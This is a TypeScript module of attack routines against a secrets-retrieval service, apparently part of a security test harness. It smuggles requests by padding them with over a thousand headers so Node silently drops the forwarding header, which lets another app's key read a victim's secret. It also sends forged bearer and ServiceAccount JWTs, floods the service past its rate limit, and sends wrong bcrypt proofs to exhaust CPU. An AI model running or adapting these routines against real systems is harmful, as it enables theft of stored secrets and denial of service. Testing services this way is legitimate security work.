import { setTimeout as pause } from 'node:timers/promises';
import { AttackConnections, FORGED_CREDENTIALS, post, type Outcomes, type Target } from './attack-connection';

/** Numbers of headers around the limits of the service (100) and of Node (1,000), which drops the rest silently. */
const PAIRS = [90, 101, 500, 990, 994, 995, 996, 1_000, 1_001, 1_100, 2_000];

/** Sends requests repeatedly on persistent connections. A connection that the service closes is opened again. */
async function askRepeatedly(
  target: Target,
  workers: number,
  next: (turn: number) => string,
  atMost = Infinity,
): Promise<Outcomes> {
  const all = new AttackConnections(target);
  let turn = 0;
  const worker = async (): Promise<void> => {
    let connection = await all.connect();
    while (all.isRunning && turn < atMost) {
      if (connection?.isOpen !== true) {
        await pause(20);
        connection = await all.connect();
        continue;
      }
      const ended = pause(5_000, 'unanswered', { ref: false });
      const outcome = await Promise.race([connection.ask(next(turn++)), ended]);
      if (outcome === 'unanswered') {
        all.count('unanswered');
        connection.end();
      }
    }
  };
  await Promise.all(Array.from({ length: workers }, worker));
  return all.end();
}

/**
 * From the address of a verified system-server: a ProxyRequest with another app's key. The header that shows that it was forwarded stands
 * behind so many others that Node drops it.
 */
export function headerPairs(target: Target): Promise<Outcomes> {
  const proxyRequest = JSON.stringify({
    op: `RetrieveSecret?workspace=${target.victim?.workspace}`,
    datatype: 'secret',
    version: 'v1',
    group: 'secret.infisical',
    appkey: target.victim?.appKey,
    data: { name: 's0' },
  });
  return askRepeatedly(target, 8, (turn) => {
    const pairs = PAIRS[turn % PAIRS.length] ?? 0;
    return [
      'POST /RetrieveSecret HTTP/1.1',
      'Host: x',
      'User-Agent: x',
      `Content-Length: ${proxyRequest.length}`,
      ...Array.from({ length: pairs }, () => 'A: b'),
      'Content-Type: application/json',
      `X-Bfl-User: ${target.victim?.user}`,
      ...(turn % 2 === 0 ? ['X-Forwarded-For: 10.0.0.1'] : ['Upgrade: websocket', 'Connection: upgrade']),
      '',
      proxyRequest,
    ].join('\r\n');
  });
}

/** Reads of one app with a request target in absolute form. */
export function absoluteTargets(target: Target): Promise<Outcomes> {
  const app = target.apps[0];
  const read = (origin: string): string =>
    post(`${origin}/RetrieveSecret?workspace=${app?.workspace}`, app?.headers ?? {}, '{"name":"s0"}');
  const targets = ['http://x', 'https://x', 'HTTP://x:80', 'http://a@x', '//x'].map(read);
  return askRepeatedly(target, 25, (turn) => targets[turn % targets.length] ?? '', 2_500);
}

/** Reads of one app far beyond its rate limit. */
export function throttledReads(target: Target): Promise<Outcomes> {
  const app = target.apps[0];
  const read = post(`/RetrieveSecret?workspace=${app?.workspace}`, app?.headers ?? {}, '{"name":"s0"}');
  return askRepeatedly(target, 25, () => read);
}

/** Reads with forged tokens, each different, so that no verification is cached. */
export function forgedTokens(target: Target): Promise<Outcomes> {
  return askRepeatedly(target, 25, (turn) => {
    const fresh = Object.entries(FORGED_CREDENTIALS).map(([name, token]) => [name, `${token.slice(0, -8)}${String(turn).padStart(8, '0')}`]); // prettier-ignore
    return post('/RetrieveSecret?workspace=w', Object.fromEntries(fresh) as Record<string, string>, '{"name":"s0"}'); // prettier-ignore
  });
}

/** Wrong proofs; each costs the service a bcrypt hash. */
function wrongProofs(target: Target, keyOf: (turn: number) => string): Promise<Outcomes> {
  const firstMs = Date.now() * 1_000;
  return askRepeatedly(target, 40, (turn) => {
    // Each is different, since a hash is accepted for verification only once.
    const salt = `${firstMs + turn}`.padStart(21, '0');
    const body = JSON.stringify({
      app_key: keyOf(turn),
      timestamp: Math.floor(Date.now() / 1000),
      token: `$2b$10$${salt}O${'C'.repeat(31)}`,
      perm: { group: 'secret.infisical', dataType: 'secret', version: 'v1', ops: ['ListSecret'] },
    });
    return post('/permission/v1alpha1/access', {}, body);
  });
}

export const wrongProofsOfAnApp = (target: Target): Promise<Outcomes> =>
  wrongProofs(target, () => target.victim?.appKey ?? '');

export const wrongProofsOfNobody = (target: Target): Promise<Outcomes> =>
  wrongProofs(target, (turn) => `nobody_${turn}`);

/** Forged ServiceAccount tokens for our audience, which only the cluster can refuse. */
export function forgedServiceAccountTokens(target: Target): Promise<Outcomes> {
  const part = (value: object): string => Buffer.from(JSON.stringify(value)).toString('base64url');
  const [app, user] = [target.victim?.app, target.victim?.user];
  return askRepeatedly(target, 40, (turn) => {
    const sub = `system:serviceaccount:${app}-${user}:default`;
    const claims = { aud: ['olares-secret-provider'], exp: 4_000_000_000, sub };
    const headers = {
      authorization: `Bearer ${part({ alg: 'RS256' })}.${part(claims)}.forged-${Date.now()}-${turn}`,
      'x-bfl-user': `${user}`,
      'x-remote-user': sub,
    };
    return post(`/RetrieveSecret?workspace=${target.victim?.workspace}`, headers, '{"name":"s0"}');
  });
}
